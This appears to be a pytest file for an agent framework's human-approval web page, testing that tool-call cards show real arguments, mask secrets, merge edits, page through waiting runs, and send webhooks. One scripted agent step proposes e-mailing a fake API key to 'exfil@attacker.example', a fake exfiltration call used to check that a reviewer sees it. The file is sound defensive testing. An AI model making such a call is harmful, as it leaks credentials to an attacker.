"""The page's cards, in process: context to decide on, real values with secrets marked, nothing pre-selected,
an edit merged per field, a second submit told who decided, every waiting run reachable by paging."""

from __future__ import annotations

import re
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from html import unescape
from typing import Any

import httpx2
import pytest

from middleware import approve
from onion import Agent, tool
from onion.serve import serve
from onion.stores import MemoryStore
from onion.testing import ScriptedModel, call

SENT: list[dict[str, Any]] = []
API_KEY = "sk-ant-api03-" + "k" * 40


@tool
def find_customer(name: str) -> str:
    """Find a customer's e-mail address."""
    return f"{name} <{name.lower()}@example.com>"


@tool
def send_email(to: str, body: str, api_key: str) -> str:
    """Send an e-mail to a customer from our account."""
    SENT.append({"to": to, "body": body, "api_key": api_key})
    return f"sent to {to}"


def mailer(store: Any) -> Agent[str]:
    script = [
        [call("find_customer", name="Ada")],
        [
            call("send_email", to="exfil@attacker.example", body="Your refund\nis on its way.", api_key=API_KEY),
            call("send_email", to="ada@example.com", body="Hello", api_key=API_KEY),
        ],
        "Sent.",
    ]
    agent = Agent(ScriptedModel(script), tools=[find_customer, send_email], name="mailer", store=store)
    return agent.use(approve("send_email"))


@asynccontextmanager
async def client(app: Any) -> AsyncIterator[httpx2.AsyncClient]:
    transport = httpx2.ASGITransport(app=app)
    async with httpx2.AsyncClient(transport=transport, base_url="http://127.0.0.1") as http:
        yield http


def text(html: str) -> str:
    return unescape(re.sub(r"<[^>]+>", " ", html))


async def test_a_card_shows_what_a_person_needs_and_marks_secrets_without_sending_them() -> None:
    """The card shows the run's input, an earlier tool's result, the tool's description, the real recipient
    and the multi-line body as text; the API key shows only as 'a secret, N characters', never its value nor
    [REDACTED]; no choice is pre-selected."""
    store = MemoryStore()
    agent = mailer(store)
    await agent.run("tell Ada her refund is coming")
    async with client(serve(agent)) as http:
        page = (await http.get("/")).text
    shown = text(page)
    assert "tell Ada her refund is coming" in shown and "ada@example.com" in shown
    assert "Send an e-mail to a customer from our account." in shown
    assert "exfil@attacker.example" in shown and "Your refund\nis on its way." in shown
    assert f"a secret, {len(API_KEY)} characters" in shown
    assert API_KEY not in page and "[REDACTED]" not in page
    assert " checked" not in page and "1 run waiting for a decision" in shown


async def test_an_edit_is_merged_over_the_real_arguments_and_a_call_left_without_a_choice_is_named() -> None:
    """Editing one field keeps the real secret (left empty) and the other fields; a call without a choice is
    named in plain words and nothing runs; a second submit of the same form says who decided, and when."""
    SENT.clear()
    store = MemoryStore()
    agent = mailer(store)
    paused = await agent.run("tell Ada")
    first, second = (c.id for c in paused.pending)
    form = {f"decision:{first}": "edit", f"field:{first}:to": "ada@example.com", f"field:{first}:api_key": ""}
    async with client(serve(agent)) as http:
        unchosen = await http.post(f"/runs/{paused.run_id}/decisions", data=form)
        assert unchosen.status_code == 422 and f"send_email ({second})" in text(unchosen.text)
        assert SENT == []
        form[f"decision:{second}"] = "reject"
        form[f"reason:{second}"] = "one mail is enough"
        done = await http.post(f"/runs/{paused.run_id}/decisions", data=form, follow_redirects=True)
        again = await http.post(f"/runs/{paused.run_id}/decisions", data=form)
    assert SENT == [{"to": "ada@example.com", "body": "Your refund\nis on its way.", "api_key": API_KEY}]
    assert done.status_code == 200 and f"Decided run {paused.run_id}" in text(done.text)
    assert again.status_code == 200 and "already decided by" in text(again.text) and "nothing ran twice" in again.text


async def test_every_waiting_run_is_reachable_by_paging_oldest_first() -> None:
    """150 paused runs: 20 cards a page, 8 pages, each run on exactly one of them; none drops off."""
    store = MemoryStore()
    ids = []
    for _ in range(150):
        model = ScriptedModel([[call("send_email", to="a@example.com", body="x", api_key="none")]])
        agent = Agent(model, tools=[send_email], name="mailer", store=store).use(approve("send_email"))
        ids.append((await agent.run("mail")).run_id)
    found: list[str] = []
    async with client(serve(agent)) as http:
        first = (await http.get("/")).text
        assert "150 runs waiting for a decision" in text(first) and "id='page-8'" in first
        for number in range(1, 9):
            found += re.findall(r"<form class=paused id='run-([^']+)'", (await http.get(f"/?page={number}")).text)
    assert found == ids


async def test_a_webhook_hears_of_each_pause_and_a_dead_one_never_slows_a_run() -> None:
    """`notify=URL`: one JSON message per pause (Slack/Teams show its `text`, with the link to the card), its
    secrets scrubbed; a webhook nobody answers costs the run nothing."""
    import asyncio
    import json
    import threading
    import time
    from http.server import BaseHTTPRequestHandler, HTTPServer

    heard: list[dict[str, Any]] = []

    class Hook(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            heard.append(json.loads(self.rfile.read(int(self.headers["content-length"]))))
            self.send_response(200)
            self.end_headers()

        def log_message(self, *args: Any) -> None:
            pass

    server = HTTPServer(("127.0.0.1", 0), Hook)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        url = f"http://127.0.0.1:{server.server_port}/hook"
        agent = mailer(MemoryStore())
        app = serve(agent, notify=url, notify_page="https://agents.example.com/")
        async with client(app) as http:
            paused = (await http.post("/runs", json={"input": "tell Ada"})).json()
        for _ in range(100):
            if heard:
                break
            await asyncio.sleep(0.05)
    finally:
        server.shutdown()
    [message] = heard
    assert message["run_id"] == paused["run_id"] and len(message["pending"]) == 2
    assert f"https://agents.example.com/#run-{paused['run_id']}" in message["text"] and API_KEY not in str(message)

    dead = serve(mailer(MemoryStore()), notify="http://127.0.0.1:9/nobody")
    started = time.perf_counter()
    async with client(dead) as http:
        assert (await http.post("/runs", json={"input": "tell Ada"})).json()["status"] == "paused"
    assert time.perf_counter() - started < 2.0


async def test_a_failed_run_has_a_resume_button_that_goes_on_with_it() -> None:
    """A run that failed shows Resume; pressing it goes on with the run (as `runs resume`) and the page says what
    came of it."""
    import asyncio

    from onion import ModelCall

    calls: list[int] = []

    async def flaky(ctx: ModelCall, call_next: Any) -> Any:
        calls.append(1)
        if len(calls) == 2:  # the second model call, after the tool ran
            raise RuntimeError("the worker fell over")
        return await call_next(ctx)

    store = MemoryStore()
    model = ScriptedModel([[call("find_customer", name="Ada")], "Found her."])
    agent = Agent(model, tools=[find_customer], name="finder", store=store).use(flaky)
    with pytest.raises(RuntimeError):
        await agent.run("find Ada")
    [record] = await store.runs()
    assert record.status == "failed"
    async with client(serve(agent)) as http:
        page = (await http.get("/")).text
        assert f"id='resume-{record.run_id}'" in page
        assert f"id='error-{record.run_id}'>RuntimeError: the worker fell over</small>" in page
        assert (await http.get(f"/runs/{record.run_id}")).json()["error"] == "RuntimeError: the worker fell over"
        resumed = await http.post(f"/runs/{record.run_id}/resume", data={})
        assert resumed.status_code == 303
        for _ in range(100):
            if (await store.run_record(record.run_id)).status == "completed":  # type: ignore[union-attr]
                break
            await asyncio.sleep(0.02)
        shown = (await http.get(resumed.headers["location"])).text
    assert resumed.headers["location"] == f"/?resumed={record.run_id}"
    assert f"Resumed run {record.run_id}. It completed: Found her." in text(shown)


async def test_a_card_links_to_the_trace_this_server_captured_of_its_run() -> None:
    """While the app is served (its lifespan), the runs it starts are traced: a card's link opens onion's HTML
    trace of the run (secrets scrubbed, its script allowed by hash); a run this process never ran says so."""
    from onion import _chains

    agent = mailer(MemoryStore())
    app = serve(agent)
    async with app.router.lifespan_context(app), client(app) as http:
        paused = (await http.post("/runs", json={"input": "tell Ada"})).json()
        run_id = paused["run_id"]
        assert f"href='/runs/{run_id}/trace'" in (await http.get("/")).text
        traced = await http.get(f"/runs/{run_id}/trace")
        other = await agent.run("tell Ada")  # run outside the server: nothing of it is kept
        untraced = await http.get(f"/runs/{other.run_id}/trace")
        unknown = await http.get("/runs/nobody/trace")
    assert traced.status_code == 200 and "onion trace" in traced.text
    assert "tool find_customer(name=&#x27;Ada&#x27;)" in traced.text and API_KEY not in traced.text
    assert "script-src 'sha256-" in traced.headers["content-security-policy"]
    assert untraced.status_code == 404 and "keeps no trace of run" in text(untraced.text)
    assert unknown.status_code == 404 and "no run" in text(unknown.text)
    assert _chains.active is None  # tracing is off again once the app stops


async def test_filters_narrow_the_cards_and_the_runs_and_paging_keeps_them() -> None:
    """`?status=`, `?session=`, `?principal=` (and `?agent=`) narrow what the page shows; the count says how many
    wait of how many in all; the page links of a filtered page keep the filters; the form is a GET form."""
    from onion import Principal

    tokens = {"tok-ana": Principal("ana"), "tok-bob": Principal("bob")}
    store = MemoryStore()
    for who, session in (("ana", "s1"), ("bob", "s2"), ("bob", "s3")):
        app = serve(mailer(store), tokens=tokens)
        async with client(app) as http:
            answer = await http.post(
                "/runs", json={"input": "tell Ada", "session": session}, headers={"authorization": f"Bearer tok-{who}"}
            )
            assert answer.json()["status"] == "paused"
    shown: dict[str, str] = {}
    async with client(app) as http:
        for query in ("", "?principal=bob", "?session=s1", "?status=completed", "?agent=mailer&principal=ana"):
            answer = await http.get("/" + query, headers={"authorization": "Bearer tok-ana"})
            shown[query] = answer.text
    cards = {q: len(re.findall(r"<form class=paused", page)) for q, page in shown.items()}
    assert cards == {
        "": 3,
        "?principal=bob": 2,
        "?session=s1": 1,
        "?status=completed": 0,
        "?agent=mailer&principal=ana": 1,
    }
    assert "2 runs waiting for a decision (of 3 in all)" in text(shown["?principal=bob"])
    assert "<title>(3) Runs</title>" in shown[""] and "<form method=get action='/' id=filters" in shown[""]
    assert "value='s1'" in shown["?session=s1"] and "No run passes these filters." in shown["?status=completed"]


def test_the_filter_query_keeps_the_filters_for_each_page() -> None:
    """A page link of a filtered page is the same filters and that page."""
    from onion.serve._filters import Filters

    filters = Filters.of({"status": "paused", "session": "s 1", "principal": "", "agent": "nope?"})
    assert filters.query(page=2) == "?status=paused&agent=nope%3F&session=s+1&page=2"
    assert Filters.of({"status": "bogus"}).status == "" and not Filters.of({})


def test_the_command_line_passes_the_webhook_and_the_traces_kept_to_serve(monkeypatch: pytest.MonkeyPatch) -> None:
    """`python -m onion serve module:agent --notify URL --notify-page URL --traces 5` serves with them."""
    import argparse
    import sys
    import types

    import uvicorn

    from onion.serve import _app, _cli

    given: dict[str, Any] = {}

    def serving(agent: Any, **settings: Any) -> object:
        given.update(settings)
        return object()

    monkeypatch.setattr(_app, "serve", serving)
    monkeypatch.setattr(uvicorn, "run", lambda app, **settings: None)
    module = types.ModuleType("desk_for_the_command_line")
    module.agent = mailer(MemoryStore())  # type: ignore[attr-defined]
    monkeypatch.setitem(sys.modules, "desk_for_the_command_line", module)
    parser = argparse.ArgumentParser()
    _cli.add_parser(parser.add_subparsers())
    hook, page = "https://hooks.example.com/T0/B0/x", "https://desk.example.com/"
    flags = ["--notify", hook, "--notify-page", page, "--traces", "5"]
    _cli.run(parser.parse_args(["serve", "desk_for_the_command_line:agent", *flags]))
    assert (given["notify"], given["notify_page"], given["traces"]) == (hook, page, 5)


async def test_a_webhook_that_hangs_keeps_to_threads_of_its_own() -> None:
    """Ten pauses told to a webhook that never answers: the posts wait in the notifier's own two threads, and
    `asyncio.to_thread` (which a cache or a client's setup uses) answers at once meanwhile."""
    import asyncio
    import socket
    import time

    from onion.serve._notify import Notify

    silent = socket.socket()
    silent.bind(("127.0.0.1", 0))
    silent.listen(32)  # accepts, never answers
    notify = Notify(f"http://127.0.0.1:{silent.getsockname()[1]}/hook", attempts=1, timeout=2.0)
    try:
        tasks = [asyncio.create_task(notify.send({"run_id": f"run-{n}", "text": "waits"})) for n in range(10)]
        await asyncio.sleep(0.2)
        started = time.perf_counter()
        assert await asyncio.wait_for(asyncio.to_thread(lambda: "free"), 1.0) == "free"
        assert time.perf_counter() - started < 0.5
    finally:
        silent.close()
    await asyncio.gather(*tasks)


@tool
def tag(labels: list[str]) -> str:
    """Tag the ticket."""
    return f"tagged {labels}"


async def test_an_edited_field_nested_50000_levels_deep_is_named_and_nothing_runs() -> None:
    """A value the page cannot read (JSON too deep to parse) is a 422 naming the field; the run still waits."""
    store = MemoryStore()
    agent = Agent(ScriptedModel([[call("tag", labels=["a"])], "done"]), tools=[tag], store=store).use(approve("tag"))
    paused = await agent.run("tag it")
    (pending,) = paused.pending
    form = {f"decision:{pending.id}": "edit", f"field:{pending.id}:labels": "[" * 50_000 + "]" * 50_000}
    async with client(serve(agent)) as http:
        answer = await http.post(f"/runs/{paused.run_id}/decisions", data=form)
    assert answer.status_code == 422 and f"The field labels of {pending.id} is not a value" in text(answer.text)
    record = await store.run_record(paused.run_id)
    assert record is not None and record.status == "paused"
